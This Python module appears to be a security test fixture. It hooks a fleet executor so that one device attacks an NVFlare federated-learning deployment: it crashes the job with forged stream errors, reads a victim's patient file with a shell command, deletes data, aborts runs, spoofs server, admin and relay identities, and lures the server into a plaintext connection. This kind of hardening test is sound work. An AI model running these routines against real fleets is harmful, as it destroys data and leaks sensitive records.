"""A device with a valid kit that commands others: loaded into its job process.

At its first task it tries what destroyed devices and runs of an unguarded fleet, then every channel and topic that any
process of the fleet listens to (`registries`), and writes down what it sent. From then on it is honest.
"""

from __future__ import annotations

import json
import os
import socket
import time
from pathlib import Path
from typing import Any

from nvflare.apis.shareable import Shareable
from nvflare.fuel.common.exit_codes import ProcessExitCode
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.core_cell import CoreCell
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey as Key
from nvflare.fuel.f3.cellnet.defs import MessageType
from nvflare.fuel.f3.cellnet.utils import encode_payload
from nvflare.fuel.f3.message import Message
from nvflare.fuel.f3.streaming.stream_const import StreamDataType, StreamHeaderKey
from nvflare.fuel.utils.admin_name_utils import new_admin_client_name
from nvflare.private.admin_defs import Message as Command
from nvflare.private.defs import CellMessageHeaderKeys, JobFailureMsgKey, RequestHeader

from cos2p.fleet.nvflare.executor import FleetExecutor
from tests.fleet.registries import FOLDER

VICTIM = "dev-1"
ONLY = "COS2P_TEST_TARGETS"
"""In the environment: how the names of those begin who are attacked; without it all are."""
SIGNATURE = (
    CellMessageHeaderKeys.CLIENT_NAME,
    CellMessageHeaderKeys.TOKEN,
    CellMessageHeaderKeys.TOKEN_SIGNATURE,
    CellMessageHeaderKeys.SSID,
)
STREAM = "sm__STREAM"

_heard: dict[str, dict[str, Any]] = {}
"""Headers of the last message by channel and topic."""
_take = CoreCell.process_message


def _listen(self: CoreCell, endpoint: Any, connection: Any, app_id: int, message: Any) -> Any:
    _heard[f"{message.get_header(Key.CHANNEL)}:{message.get_header(Key.TOPIC)}"] = dict(message.headers)
    return _take(self, endpoint, connection, app_id, message)


CoreCell.process_message = _listen

_said: dict[str, Any] = {}
"""Headers of the last message that we sent."""


def _look(message: Message) -> None:
    _said.update(message.headers)


class Commander:
    def __init__(self, cell: Any, job: str) -> None:
        self.core: CoreCell = cell.core_cell
        self.me, self.job = self.core.my_info.fqcn, job
        self.core.add_outgoing_request_filter(channel="*", topic="*", cb=_look)
        self.sent: list[list[str]] = []
        """Channel, topic and destination of all messages."""

    # ------------------------------------------------------------ means

    def fire(self, channel: str, topic: str, target: str, payload: Any = None, **headers: Any) -> None:
        """As NVFlare sends it, with the own signature."""
        if target.startswith(os.environ.get(ONLY, "")):
            message = Message(headers, Shareable() if payload is None else payload)
            self.core.fire_and_forget(channel, topic, target, message, optional=True)
            self.sent.append([channel, topic, target])

    def stream(self, channel: str, topic: str, target: str, payload: bytes = b"\xc1") -> None:
        """The same as a stream of one frame, with a payload that cannot be decoded."""
        said = {
            StreamHeaderKey.CHANNEL: channel, StreamHeaderKey.TOPIC: topic, StreamHeaderKey.SIZE: len(payload),
            StreamHeaderKey.STREAM_ID: time.time_ns(), StreamHeaderKey.DATA_TYPE: StreamDataType.FINAL,
            StreamHeaderKey.SEQUENCE: 0, StreamHeaderKey.OFFSET: 0, StreamHeaderKey.PAYLOAD_ENCODING: "fobs",
        }  # fmt: skip
        before = len(self.sent)
        self.fire(STREAM, "sm__DATA", target, payload, **said)
        self.sent[before:] = [[channel, topic, target]] * (len(self.sent) - before)

    def forge(self, channel: str, topic: str, target: str, payload: Any = None, **headers: Any) -> None:
        """Word for word as we please, past all that NVFlare adds on our side."""
        said = {
            Key.CHANNEL: channel, Key.TOPIC: topic, Key.ORIGIN: self.me, Key.DESTINATION: target,
            Key.FROM_CELL: self.me, Key.TO_CELL: "server", Key.MSG_TYPE: MessageType.REQ,
            Key.ROUTE: [(self.me, time.time())], Key.REPLY_EXPECTED: False, Key.OPTIONAL: True,
        }  # fmt: skip
        if target.startswith(os.environ.get(ONLY, "")):
            message = Message(said | headers, Shareable() if payload is None else payload)
            encode_payload(message, fobs_ctx=self.core.get_fobs_context())
            self.core.communicator.send(self.core.agents["server"].endpoint, CoreCell.APP_ID, message)
            kind = headers.get(CellMessageHeaderKeys.CLIENT_TYPE, "")
            self.sent.append([channel, f"{topic} {kind}".strip(), target])

    # ------------------------------------------------------------ what destroyed a fleet

    def kill_the_job(self) -> None:
        """What a device may send, and NVFlare's job process ended itself over."""
        last = {key: value for key, value in _heard[f"{STREAM}:sm__DATA"].items() if key.startswith("sm__")}
        too_long = {StreamHeaderKey.ERROR_MSG: "no", StreamHeaderKey.ERROR_TYPE: "BlobSizeError"}
        for topic in ("sm__ERROR", "sm__ACK"):
            self.fire(STREAM, topic, f"server.{self.job}", **(last | too_long))
        self.stream("server_command", "submit_update", f"server.{self.job}")

    def read_a_file(self) -> str:
        """Of the victim's own, by a shell command."""
        asked = Message({}, command("sys.shell", body="cat data/patients.csv"))
        reply = self.core.send_request("admin", "admin", VICTIM, asked, timeout=1.0, optional=True)
        self.sent.append(["admin", "admin", VICTIM])
        return str(getattr(reply.payload, "body", ""))

    def destroy(self) -> None:
        job = f"{VICTIM}.{self.job}"
        for folder in ("data", "startup"):
            self.fire("admin", "admin", VICTIM, command("train.delete_run", folder))
        self.fire("admin", "admin", VICTIM, command("train.shutdown"))
        self.fire("admin", "admin", VICTIM, command("train.abort", self.job))
        self.fire("client_command", "abort", job)
        self.fire("server_command", "abort", f"server.{self.job}")
        self.fire("cellnet.channel", "bye", f"server.{self.job}")
        self.fire("server_parent_listener", "update_run_status", "server", {"execution_error": True})
        failed = {JobFailureMsgKey.JOB_ID: self.job, JobFailureMsgKey.CODE: ProcessExitCode.EXCEPTION}
        self.fire("task", "report_job_failure", "server", failed)
        item = {"headers": {}, "payload": None}
        bulk = [{"target": VICTIM, "channel": "client_command", "topic": "abort", "message": item}]
        self.fire("cellnet.channel", "bulk", job, bulk)

    def pretend(self) -> None:
        """Under other names: the server's, with its own signature; the victim's; a relay's; an admin's."""
        last = _heard[f"{STREAM}:sm__ACK"]
        signed = {key: last[key] for key in SIGNATURE if key in last}
        for name in ("server", f"server.{self.job}"):
            for deadly in (command("train.delete_run", "data"), command("train.shutdown")):
                self.forge("admin", "admin", VICTIM, deadly, **(signed | {Key.ORIGIN: name}))
            self.forge("server_command", "abort", f"server.{self.job}", **(signed | {Key.ORIGIN: name}))
        self.forge("task", "quit", "server", **(signed | {Key.ORIGIN: VICTIM}))
        self.forge("task", "register", "server", **{CellMessageHeaderKeys.CLIENT_TYPE: "relay"})
        self._as_admin(signed)

    def _as_admin(self, signed: dict[str, Any]) -> None:
        """NVFlare lets any certificate in under the random names of admins."""
        known, creds = self.core.identity_resolver.prefix_identity_map, dict(self.core.endpoint.conn_props)
        cell = Cell(new_admin_client_name(), self.core.root_url, self.core.secure, creds, auth_identity_map=known)
        cell.start()
        deadline = time.monotonic() + 10
        while not cell.core_cell.agents and time.monotonic() < deadline:
            time.sleep(0.05)
        cell.core_cell.fire_and_forget("hci_channel", "command", "server", Message(signed, "{}"), optional=True)

    def have_it_connect(self) -> bool:
        """Whether the server connects, without TLS, to an address that we name."""
        with socket.create_server(("127.0.0.1", 0)) as listener:
            listener.settimeout(2.0)
            url = f"tcp://127.0.0.1:{listener.getsockname()[1]}"
            own = {key: _said[key] for key in SIGNATURE if key in _said}
            self.forge("task", "heart_beat", "server", **(own | {Key.CONN_URL: url, Key.FROM_CELL: "elsewhere"}))
            try:
                listener.accept()
            except TimeoutError:
                return False
            return True

    # ------------------------------------------------------------ everything there is

    def everything(self) -> None:
        """All that some other process listens to."""
        for path in sorted(Path(os.environ[FOLDER]).glob("[ds]e*.json")):
            if path.name.startswith(self.me.partition(".")[0]):
                continue
            known = json.loads(path.read_text())
            for channel, topic in known["direct"]:
                if topic != "sm__DATA":  # what carries the streams below
                    self.fire(channel, topic, path.stem, **{StreamHeaderKey.STREAM_ID: 1})
            for channel, topic in known["streamed"]:
                self.stream(channel, topic, path.stem)


def command(topic: str, job: str = "", body: str = "") -> Command:
    made = Command(topic, body)
    made.set_header(RequestHeader.JOB_ID, job)
    return made


def attack(cell: Any, job: str) -> dict[str, Any]:
    wanted = ("server", f"server.{job}", VICTIM, f"{VICTIM}.{job}")
    while not all((Path(os.environ[FOLDER]) / f"{name}.json").exists() for name in wanted):
        time.sleep(0.2)
    commander = Commander(cell, job)
    commander.kill_the_job()
    connected, text = commander.have_it_connect(), commander.read_a_file()
    commander.destroy()
    commander.pretend()
    commander.everything()
    return {"sent": commander.sent, "connected": connected, "read": text}


_honest = FleetExecutor._do


def _do(self: FleetExecutor, order: dict[str, Any]) -> dict[str, Any]:
    path = Path(self._folder) / "commands.json"
    if not path.exists():
        reported = attack(self._link._cell, self._link._server.partition(".")[2])
        path.with_suffix(".part").write_text(json.dumps(reported))
        path.with_suffix(".part").rename(path)
    return _honest(self, order)


FleetExecutor._do = _do  # type: ignore[method-assign]
